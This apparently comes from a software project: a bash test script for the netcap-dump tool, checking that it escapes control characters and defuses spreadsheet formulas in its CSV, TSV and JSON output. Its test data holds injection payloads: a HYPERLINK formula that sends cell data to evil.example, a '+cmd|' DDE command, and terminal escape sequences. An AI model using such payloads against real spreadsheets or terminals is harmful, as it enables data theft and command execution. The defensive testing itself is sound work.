#!/usr/bin/env bash
# test_dump_escapes.sh: what a record's text cannot do to whoever reads
# netcap-dump's output (docs/csv-json.md, "Control characters" and
# "--safe-csv"). LLDP records whose names carry terminal escape sequences
# (ESC [ 2 J clears the screen, OSC sets the window title), line breaks,
# tabs, DEL, a C1 control, backslashes and spreadsheet formulas:
#   - no control byte reaches the output raw, in CSV, TSV or JSON; every
#     record is one line;
#   - the CSV escapes read back to the exact original text (python's csv
#     module, then \\ and \xNN undone), JSON through json.loads;
#   - --safe-csv puts a ' before text cells that start with = + - @ (after
#     spaces) and quotes them; numbers, negative ones too, stay as they are.
# The file is written byte by byte (python3, no protobuf runtime needed).
source "$(dirname "$0")/lib.sh"

DUMP=$NETCAP_BUILD/netcap-dump
PY=/usr/bin/python3
[ -x "$DUMP" ] || skip "$DUMP not built"
[ -x "$PY" ] || skip "$PY absent"

FILE=$TMP/LinkLayerDiscoveryInfo.ncap.gz
# The texts, one JSON list per record: [Timestamp, PortDescription,
# SysName, SysDescription]; the test below reads them back from here.
cat >"$TMP/texts.json" <<'EOF'
[
  [1549166706123456789, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
   "\u001b[2J\u001b]0;owned\u0007switch-1", "tab\there, nl\nthere, cr\rthere, DEL \u007f, C1 \u009b1m, nbsp \u00a0, \u00e9\u2014\u2713"],
  [-1, "-2+3", "@SUM(1)", " =1+1"],
  [0, "+cmd|' /C calc'!A0", "a\\x1b is text, \\ too", "ends with a backslash \\"],
  [5, "plain", "", "quote \" and comma ,"]
]
EOF
$PY - "$FILE" "$TMP/texts.json" <<'EOF'
import gzip, json, sys

def varint(n):
    out = bytearray()
    while n >= 0x80:
        out.append(n & 0x7F | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)

def ld(field, payload):
    return varint(field << 3 | 2) + varint(len(payload)) + payload

def rec(msg):
    return varint(len(msg)) + msg

NC_LLDP_INFO = 24
header = varint(1 << 3) + varint(1549166706000000000) + varint(3 << 3) + varint(NC_LLDP_INFO) + ld(4, b"0.1.0")
out = rec(header)
for ts, port, name, desc in json.load(open(sys.argv[2])):
    m = varint(1 << 3) + varint(ts & (2**64 - 1))
    for field, text in ((2, port), (3, name), (4, desc)):
        if text:
            m += ld(field, text.encode())
    out += rec(m)
open(sys.argv[1], "wb").write(gzip.compress(out))
EOF

expect_eq() { [ "$2" = "$3" ] || fail "$1: expected [$2], got [$3]"; }
SEL=Timestamp,PortDescription,SysName,SysDescription

echo "-- CSV: controls escaped, one line per record"
"$DUMP" --select "$SEL" "$FILE" >"$TMP/csv"
expect_eq "first record" \
  '1549166706123456789,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",\x1b[2J\x1b]0;owned\x07switch-1,"tab\x09here, nl\x0athere, cr\x0dthere, DEL \x7f, C1 \xc2\x9b1m, nbsp '$'\u00a0'', '$'\u00e9\u2014\u2713''"' \
  "$(sed -n 2p "$TMP/csv")"
# Backslashes of the text doubled: "a\x1b" as text is a\\x1b, not ESC.
expect_eq "third record" \
  '0,+cmd|'"'"' /C calc'"'"'!A0,"a\\x1b is text, \\ too",ends with a backslash \\' \
  "$(sed -n 4p "$TMP/csv")"

# check_output FILE FORMAT: no raw C0 other than the line ends (and the
# separator, for TSV), no DEL, no C1 (UTF-8 C2 80..C2 9F), valid UTF-8,
# one line per record plus the header line (CSV).
check_output() {
  $PY - "$1" "$2" <<'EOF' || fail "$2 output carries raw control characters: $(od -c "$1" | head -n 20)"
import re, sys
data, fmt = open(sys.argv[1], "rb").read(), sys.argv[2]
text = data.decode("utf-8")  # raises on invalid UTF-8
allowed = "\n\t" if fmt == "tsv" else "\n"
bad = [c for c in text if (ord(c) < 0x20 and c not in allowed) or 0x7F <= ord(c) <= 0x9F]
assert not bad, bad
lines = text.split("\n")
assert lines[-1] == "" and len(lines) - 1 == (4 if fmt == "json" else 5), len(lines)
if fmt == "tsv":
    assert all(l.count("\t") == 3 for l in lines[:-1]), lines
EOF
}
check_output "$TMP/csv" csv

echo "-- CSV: the escapes read back to the exact texts"
$PY - "$TMP/csv" "$TMP/texts.json" <<'EOF' || fail "CSV does not read back"
import csv, json, sys

def unescape(cell):
    """Undoes netcap-dump's CSV text escapes: \\\\ and \\xNN (one byte)."""
    b, out, i = cell.encode(), bytearray(), 0
    while i < len(b):
        if b[i] == 0x5C:
            if b[i + 1] == 0x5C:
                out.append(0x5C)
                i += 2
            elif b[i + 1] == ord("x"):
                out.append(int(b[i + 2:i + 4], 16))
                i += 4
            else:
                raise ValueError(f"unknown escape in {cell!r}")
        else:
            out.append(b[i])
            i += 1
    return out.decode("utf-8")

rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
want = json.load(open(sys.argv[2]))
assert rows[0] == ["Timestamp", "PortDescription", "SysName", "SysDescription"], rows[0]
for row, w in zip(rows[1:], want):
    assert int(row[0]) == w[0], (row, w)
    got = [unescape(c) for c in row[1:]]
    assert got == w[1:], (got, w[1:])
print("   4 records read back exactly")
EOF

echo "-- TSV: tabs inside values escaped"
"$DUMP" --tsv --select "$SEL" "$FILE" >"$TMP/tsv"
check_output "$TMP/tsv" tsv

echo "-- JSON: \\u00XX escapes, exact texts through json.loads"
"$DUMP" --json --select "$SEL" "$FILE" >"$TMP/json"
check_output "$TMP/json" json
grep -qF '"SysName":"\u001b[2J\u001b]0;owned\u0007switch-1"' "$TMP/json" || fail "JSON SysName: $(head -n 1 "$TMP/json")"
grep -qF 'DEL \u007f, C1 \u009b1m' "$TMP/json" || fail "JSON DEL and C1: $(head -n 1 "$TMP/json")"
$PY - "$TMP/json" "$TMP/texts.json" <<'EOF' || fail "JSON does not read back"
import json, sys
want = json.load(open(sys.argv[2]))
for line, w in zip(open(sys.argv[1], encoding="utf-8"), want):
    r = json.loads(line)
    assert [r["Timestamp"], r["PortDescription"], r["SysName"], r["SysDescription"]] == w, (r, w)
EOF

echo "-- --safe-csv: formulas defused, numbers kept"
"$DUMP" --safe-csv --select "$SEL" "$FILE" >"$TMP/safe"
check_output "$TMP/safe" csv
expect_eq "second record" $'-1,"\'-2+3","\'@SUM(1)","\' =1+1"' "$(sed -n 3p "$TMP/safe")"
expect_eq "third record, first cells" $'0,"\'+cmd|\' /C calc\'!A0"' "$(sed -n 4p "$TMP/safe" | cut -d, -f1-2)"
expect_eq "harmless cells unchanged" "$(sed -n 5p "$TMP/csv")" "$(sed -n 5p "$TMP/safe")"
$PY - "$TMP/safe" <<'EOF' || fail "--safe-csv output not read as expected"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
assert rows[1][1].startswith("'=HYPERLINK("), rows[1]
assert rows[2] == ["-1", "'-2+3", "'@SUM(1)", "' =1+1"], rows[2]
# No cell a spreadsheet would evaluate: none starts with = + - @ (after
# spaces) but the number -1.
for row in rows[1:]:
    for cell in row[1:]:
        assert not cell.lstrip(" ")[:1] in ("=", "+", "-", "@"), (cell, row)
EOF
# --safe-csv leaves JSON alone.
expect_eq "--safe-csv --json" "$(cat "$TMP/json")" "$("$DUMP" --safe-csv --json --select "$SEL" "$FILE")"
expect_eq "-safe-csv" "$(cat "$TMP/safe")" "$("$DUMP" -safe-csv --select "$SEL" "$FILE")"

echo "ok"
